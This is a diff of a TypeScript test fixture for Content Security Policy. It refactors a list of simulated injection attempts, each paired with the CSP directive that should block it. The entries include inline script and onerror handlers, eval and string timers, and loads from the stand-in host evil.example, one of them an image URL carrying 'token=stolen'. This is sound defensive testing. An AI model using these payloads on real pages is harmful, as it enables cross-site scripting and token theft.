@@ -1,17 +1,27 @@
-/** Attempts of injected code, each with the directive that forbids it. Runs in the page. */
-export const PAGE_ATTACKS: [what: string, directive: RegExp, attack: () => unknown][] = [
+type InjectedElement = [parent: "head" | "body", tag: string, properties: object];
+
+/** Runs in the page, as every attack below. */
+const inject = ([parent, tag, properties]: InjectedElement) =>
+  document[parent].append(Object.assign(document.createElement(tag), properties));
+
+const SCRIPTS = /^require-trusted-types-for|^script-src/;
+
+/** Attempts of injected code, each with the directive that forbids it. */
+export const PAGE_ATTACKS: [
+  what: string,
+  directive: RegExp,
+  attack: (element: InjectedElement) => unknown,
+  element?: InjectedElement,
+][] = [
   [
     "an inline script",
-    /^require-trusted-types-for|^script-src/,
-    () => {
-      const script = document.createElement("script");
-      script.textContent = "globalThis.owned = true";
-      document.head.append(script);
-    },
+    SCRIPTS,
+    inject,
+    ["head", "script", { textContent: "globalThis.owned = true" }],
   ],
   [
     "an inline handler",
-    /^require-trusted-types-for|^script-src/,
+    SCRIPTS,
     () => {
       const image = document.createElement("img");
       image.setAttributeNS(null, "onerror", "globalThis.owned = true");
@@ -21,14 +31,14 @@ export const PAGE_ATTACKS: [what: string, directive: RegExp, attack: () => unkno
   ],
   [
     "eval",
-    /^require-trusted-types-for|^script-src/,
+    SCRIPTS,
     // Code evaluated by a test may call eval; code run by a timer may not.
     // oxlint-disable-next-line no-eval, no-implied-eval
     () => setTimeout(() => void globalThis.eval("globalThis.owned = true"), 0),
   ],
   [
     "a timer of text",
-    /^require-trusted-types-for|^script-src/,
+    SCRIPTS,
     // oxlint-disable-next-line no-eval, no-implied-eval
     () => setTimeout("globalThis.owned = true", 0),
   ],
@@ -39,15 +49,7 @@ export const PAGE_ATTACKS: [what: string, directive: RegExp, attack: () => unkno
       document.body.innerHTML = "<img src=x onerror='globalThis.owned = true'>";
     },
   ],
-  [
-    "a foreign script",
-    /^require-trusted-types-for|^script-src/,
-    () => {
-      const script = document.createElement("script");
-      script.src = "https://evil.example/x.js";
-      document.head.append(script);
-    },
-  ],
+  ["a foreign script", SCRIPTS, inject, ["head", "script", { src: "https://evil.example/x.js" }]],
   [
     "a policy that lets strings through",
     /^trusted-types/,
@@ -63,19 +65,10 @@ export const PAGE_ATTACKS: [what: string, directive: RegExp, attack: () => unkno
   [
     "a foreign picture",
     /^img-src/,
-    () => {
-      new Image().src = "https://evil.example/x.png?token=stolen";
-    },
+    inject,
+    ["body", "img", { src: "https://evil.example/x.png?token=stolen" }],
   ],
-  [
-    "a foreign frame",
-    /^frame-src/,
-    () => {
-      const frame = document.createElement("iframe");
-      frame.src = "https://evil.example/";
-      document.body.append(frame);
-    },
-  ],
+  ["a foreign frame", /^frame-src/, inject, ["body", "iframe", { src: "https://evil.example/" }]],
   [
     "a form that leaves",
     /^form-action/,
@@ -89,20 +82,14 @@ export const PAGE_ATTACKS: [what: string, directive: RegExp, attack: () => unkno
   [
     "a foreign base address",
     /^base-uri/,
-    () => {
-      const base = document.createElement("base");
-      base.href = "https://evil.example/";
-      document.head.append(base);
-    },
+    inject,
+    ["head", "base", { href: "https://evil.example/" }],
   ],
   [
     "an inline style",
     /^style-src/,
-    () => {
-      const style = document.createElement("style");
-      style.textContent = "body { background: url(https://evil.example/) }";
-      document.head.append(style);
-    },
+    inject,
+    ["head", "style", { textContent: "body { background: url(https://evil.example/) }" }],
   ],
   [
     "a foreign worker",
